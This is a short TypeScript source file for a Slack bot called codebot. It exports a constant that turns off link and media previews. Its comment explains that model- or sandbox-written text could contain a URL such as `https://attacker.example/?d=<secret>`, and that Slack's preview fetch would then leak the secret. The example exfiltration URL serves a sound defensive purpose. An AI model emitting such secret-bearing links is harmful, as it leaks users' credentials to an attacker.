/**
 * Link and media previews off, on every message codebot posts, updates or shows to one person: the
 * text may be the model's or the sandbox's, and a preview is Slack's servers fetching the URL
 * (`https://attacker.example/?d=<secret>`) for anyone to read. chat.update and chat.postEphemeral
 * are not typed with these arguments by the SDK; Slack takes them all the same (a message's
 * previews are made whenever its text changes). The streaming methods (chat.startStream,
 * appendStream, stopStream) document no such option: see the README.
 */
export const NO_UNFURL = { unfurl_links: false, unfurl_media: false } as const;
